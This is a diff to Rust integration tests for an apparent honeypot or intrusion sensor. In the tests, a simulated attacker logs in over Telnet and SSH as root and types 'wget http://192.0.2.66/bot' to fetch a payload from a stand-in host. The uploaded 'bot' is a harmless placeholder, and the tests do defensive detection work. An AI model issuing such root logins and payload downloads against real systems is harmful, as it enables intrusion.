@@ -9,6 +9,7 @@ use serde_json::Value;
 use crate::lab::{Lab, state_dir};
 use crate::net::{Ns, Running, free_port, sh, wait_for};
 use crate::ssh_recorded::OPTIONS;
+use crate::typist::{HANG_UP, typing};
 
 /// A host with a web site and Telnet, and these sinks.
 fn topology(sinks: &str) -> String {
@@ -246,8 +247,8 @@ fn files_are_what_their_readers_expect() {
     let mut lab = Lab::up(&topology(sinks));
     lab.attacker.addr("eth0", "192.0.2.2/24");
     attack(&lab, 3);
-    let telnet = "(sleep 1; printf 'root\\r\\n'; sleep 1; printf 'hunter2\\r\\n'; sleep 1) | nc -w 3 192.0.2.10 23";
-    lab.attacker.run(&["sh", "-c", telnet]);
+    let lines = [("login:", "root"), ("assword:", "hunter2"), ("incorrect", HANG_UP)];
+    typing(&lines, &["telnet", "192.0.2.10"], |words| lab.attacker.sh(words));
     lab.wait_told("service.login", "192.0.2.10", &["hunter2"]);
     lab.wait_event("tcp.close", |event| event["dst"]["port"] == 23);
     let metrics = String::from_utf8(lab.command(&["status", "--metrics"]).stdout).unwrap();
@@ -313,10 +314,13 @@ fn an_intrusion_by_ssh_reads_as_cowrie_has_it() {
     let output = ssh("second", "root@192.0.2.10 'uname -a'");
     assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
     // Typed, with a mistake that is mended.
-    let typed = "(sleep 1; printf 'echx\\177o $((6*7))\\r'; sleep 1; printf 'wget http://192.0.2.66/bot\\r'; sleep 1; printf 'exit\\r'; sleep 1)";
-    let output =
-        from.run(&["sh", "-c", &format!("{typed} | sshpass -p second ssh -tt {} root@192.0.2.10", OPTIONS.join(" "))]);
-    assert!(String::from_utf8_lossy(&output.stdout).contains("42"), "{output:?}");
+    let lines = [
+        ("assword:", "second"),
+        ("# ", "echx\x7fo $((6*7))"),
+        (r"42\r\n.*# ", "wget http://192.0.2.66/bot"),
+        ("# ", "exit"),
+    ];
+    typing(&lines, &[&["ssh"][..], &OPTIONS, &["root@192.0.2.10"]].concat(), |words| from.sh(words));
     let bot = lab.file("bot", "#!/bin/sh\n:\n");
     let scp = format!("sshpass -p second scp -O {} {} root@192.0.2.10:/tmp/bot", OPTIONS.join(" "), bot.display());
     from.sh(&["sh", "-c", &scp]);
